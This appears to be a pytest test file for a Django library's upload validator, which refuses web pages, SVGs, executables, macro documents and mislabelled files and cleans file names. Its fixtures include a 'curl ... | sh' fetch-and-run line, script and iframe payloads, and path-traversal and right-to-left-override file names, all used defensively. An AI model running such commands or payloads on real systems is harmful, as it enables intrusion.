"""Uploads of library materials are judged by their content: real documents and images pass,
web pages, SVG, programs, plain archives and oversized or mislabelled files are refused."""

import io
import unicodedata
import zipfile

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import translation
from PIL import Image, PngImagePlugin
from reportlab.pdfgen import canvas

from library.validation import (
    DOCUMENTS,
    DOCX,
    GIF,
    JPEG,
    ODS,
    ODT,
    PDF,
    PNG,
    PPTX,
    WEBP,
    XLSX,
    clean_filename,
    detect,
    refusal_reason,
    validate_upload,
)

HTML_REFUSED = (
    "This file is a web page (HTML), which could run code in visitors' browsers. "
    "Upload a PDF or an office document instead."
)
SVG_REFUSED = "SVG images can carry scripts and are not accepted. Upload PNG or JPEG."
PROGRAM_REFUSED = "Programs and scripts are not accepted."
ALL_KINDS = "PDF, DOCX, XLSX, PPTX, ODT, ODS, PNG, JPEG, GIF, WebP"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def pdf_bytes() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Адам құқықтары туралы нұсқаулық")
    page.save()
    return buffer.getvalue()


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("Закон о правах человека")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Участники семинара"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    """A ZIP with the members in order; a first `mimetype` is stored uncompressed, as ODF wants."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            stored = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=stored)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def pptx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": "<Relationships/>",
            "ppt/presentation.xml": "<p:presentation/>",
        }
    )


def odf_bytes(mimetype: str) -> bytes:
    return zip_bytes(
        {
            "mimetype": mimetype,
            "content.xml": "<office:document-content/>",
            "META-INF/manifest.xml": "<manifest:manifest/>",
        }
    )


def image_bytes(image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "teal").save(buffer, image_format, **options)
    return buffer.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(file, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        validate_upload(file, **kwargs)
    return refused.value


ACCEPTED = [
    ("handbook.pdf", pdf_bytes, PDF),
    ("draft-law.docx", docx_bytes, DOCX),
    ("participants.xlsx", xlsx_bytes, XLSX),
    ("seminar-slides.pptx", pptx_bytes, PPTX),
    ("report.odt", lambda: odf_bytes("application/vnd.oasis.opendocument.text"), ODT),
    ("budget.ods", lambda: odf_bytes("application/vnd.oasis.opendocument.spreadsheet"), ODS),
    ("poster.png", lambda: image_bytes("PNG"), PNG),
    ("photo.jpg", lambda: image_bytes("JPEG"), JPEG),
    ("photo.JPEG", lambda: image_bytes("JPEG"), JPEG),
    ("banner.gif", lambda: image_bytes("GIF"), GIF),
    ("cover.webp", lambda: image_bytes("WEBP"), WEBP),
]


@pytest.mark.parametrize(("name", "build", "expected"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_real_documents_and_images_are_accepted(name, build, expected):
    assert validate_upload(upload(name, build())) == expected


@pytest.mark.parametrize(("name", "build", "expected"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_detect_keeps_the_file_position(name, build, expected):
    file = upload(name, build())
    file.seek(7)
    assert detect(file) == expected
    assert refusal_reason(file) is None
    assert file.tell() == 7


def test_a_file_without_extension_is_accepted_by_its_content():
    assert validate_upload(upload("scan", pdf_bytes())) == PDF


def test_markup_inside_a_real_image_is_not_a_web_page():
    metadata = PngImagePlugin.PngInfo()
    metadata.add_text("Comment", "<script>alert(1)</script>")
    assert validate_upload(upload("poster.png", image_bytes("PNG", pnginfo=metadata))) == PNG


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><html><body>Report</body></html>",
        "\ufeff \n<HTML lang='ru'><p>Отчёт</p></HTML>".encode(),
        "<html><body>Отчёт</body></html>".encode("utf-16"),
        b"\r\n\t<script>fetch('/accounts/')</script>",
        b"<iframe src='https://example.com'></iframe>",
        b"Annual report 2024\n" * 20 + b"<BODY onload='steal()'>",
    ],
    ids=["doctype", "bom-and-uppercase", "utf-16", "script", "iframe", "tag-after-text"],
)
def test_a_web_page_renamed_pdf_is_refused(content):
    error = refusal(upload("report.pdf", content))
    assert error.code == "dangerous"
    assert error.messages == [HTML_REFUSED]


@pytest.mark.parametrize(
    "content",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
        b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN">\n'
        + b"<!-- "
        + b"x" * 1100
        + b" -->\n<svg/>",
    ],
    ids=["script", "xml-declaration", "doctype-only-in-first-kilobyte"],
)
def test_an_svg_is_refused(content):
    error = refusal(upload("logo.png", content))
    assert error.code == "dangerous"
    assert error.messages == [SVG_REFUSED]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("handbook.docx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 64),
        ("slides.pptx", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
        ("report.pdf", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64),
        ("report.pdf", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64),
        ("install.pdf", b"#!/bin/sh\ncurl https://example.com/x | sh\n"),
        (
            "app.docx",
            zip_bytes({"META-INF/MANIFEST.MF": "Main-Class: App\n", "App.class": b"\xca\xfe"}),
        ),
        ("app.docx", zip_bytes({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n"})),
    ],
    ids=["exe", "elf", "mach-o", "java-class", "shell-script", "jar", "apk"],
)
def test_programs_and_scripts_are_refused(name, content):
    error = refusal(upload(name, content))
    assert error.code == "dangerous"
    assert error.messages == [PROGRAM_REFUSED]


def test_a_plain_zip_named_docx_is_refused():
    content = zip_bytes({"notes.txt": "notes", "photos/1.jpg": image_bytes("JPEG")})
    error = refusal(upload("x.docx", content))
    assert error.code == "dangerous"
    assert error.messages == [
        "This file is a ZIP archive, not an office document. "
        "Upload the documents inside it one by one."
    ]


def test_a_document_with_macros_is_refused():
    content = zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": "<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    )
    error = refusal(upload("handbook.docx", content))
    assert error.code == "dangerous"
    assert error.messages == [
        "Office documents with macros are not accepted. "
        "Save it as DOCX, XLSX or PPTX without macros."
    ]


@override_settings(LIBRARY_MAX_UPLOAD_SIZE=1024)
def test_a_file_over_the_limit_in_settings_is_refused():
    content = pdf_bytes()
    content += b"%" * (2048 - len(content))  # a PDF comment after the end: 2 KB in all
    error = refusal(upload("handbook.pdf", content))
    assert error.code == "too_large"
    assert error.messages == ["The file is 2.0\xa0KB; the limit is 1.0\xa0KB."]


def test_the_limit_can_be_given_by_the_caller():
    error = refusal(upload("handbook.pdf", pdf_bytes()), max_size=1000)
    assert error.code == "too_large"


def test_the_default_limit_is_twenty_megabytes(settings):
    assert settings.LIBRARY_MAX_UPLOAD_SIZE == 20 * 1024 * 1024
    assert settings.WAGTAILDOCS_MAX_UPLOAD_SIZE == settings.LIBRARY_MAX_UPLOAD_SIZE


def test_an_empty_file_is_refused():
    error = refusal(upload("handbook.pdf", b""))
    assert error.code == "empty"
    assert error.messages == ["The file is empty."]


def test_a_pdf_named_docx_is_refused():
    error = refusal(upload("handbook.docx", pdf_bytes()))
    assert error.code == "extension_mismatch"
    assert error.messages == [
        "The file's name says DOCX but its content is PDF. Rename it or export it again."
    ]


def test_a_docx_named_pdf_is_refused():
    error = refusal(upload("report.pdf", docx_bytes()))
    assert error.code == "extension_mismatch"
    assert error.messages == [
        "The file's name says PDF but its content is DOCX. Rename it or export it again."
    ]


def test_an_unknown_kind_lists_the_accepted_ones():
    error = refusal(upload("notes.txt", "Заметки семинара".encode()))
    assert error.code == "unknown_type"
    assert error.messages == [f"This kind of file is not accepted. Upload one of: {ALL_KINDS}."]


def test_an_odf_presentation_is_an_unknown_kind():
    content = odf_bytes("application/vnd.oasis.opendocument.presentation")
    error = refusal(upload("slides.odp", content))
    assert error.code == "unknown_type"


def test_an_old_word_file_is_asked_to_be_saved_as_docx():
    error = refusal(upload("law.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512))
    assert error.code == "unknown_type"
    assert error.messages == [
        "This looks like an older Microsoft Office file (DOC, XLS or PPT). "
        "Save it as DOCX, XLSX or PPTX and upload it again."
    ]


def test_an_image_where_only_documents_are_allowed_is_refused():
    error = refusal(upload("poster.png", image_bytes("PNG")), allowed=DOCUMENTS)
    assert error.code == "not_allowed"
    assert error.messages == [
        "PNG files are not accepted here. Upload one of: PDF, DOCX, XLSX, PPTX, ODT, ODS."
    ]


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("..\\..\\Windows\\System32\\handbook.docx", "docx", "handbook.docx"),
        ("Адам құқықтары туралы нұсқаулық.PDF", "pdf", "Адам_құқықтары_туралы_нұсқаулық.pdf"),
        ("Отчёт (итоговый), 2024 г.docx", "docx", "Отчёт_итоговый_2024_г.docx"),
        ("Закон от 01.02.2024", "pdf", "Закон_от_01.02.2024.pdf"),
        ("re\x00port\x1f\u202egpj.pdf", "pdf", "reportgpj.pdf"),
        ("a" * 300 + ".pdf", "pdf", "a" * 100 + ".pdf"),
        (".htaccess", "pdf", "htaccess.pdf"),
        ("CON.pdf", "pdf", "_CON.pdf"),
        ("lpt1.report.docx", "docx", "_lpt1.report.docx"),
        ("a..b.pdf", "pdf", "a.b.pdf"),
        ("report.pdf", "docx", "report.docx"),
        ("photo.JPEG", "jpg", "photo.jpg"),
        ("scan", "PDF", "scan.pdf"),
        ("", "pdf", "document.pdf"),
        ("../...", "pdf", "document.pdf"),
    ],
)
def test_file_names_are_cleaned(name, extension, expected):
    assert clean_filename(name, extension) == expected


def test_file_names_are_composed_as_nfc():
    decomposed = unicodedata.normalize("NFD", "Йошкар-Ола, отчёт.pdf")
    assert clean_filename(decomposed, "pdf") == "Йошкар-Ола_отчёт.pdf"
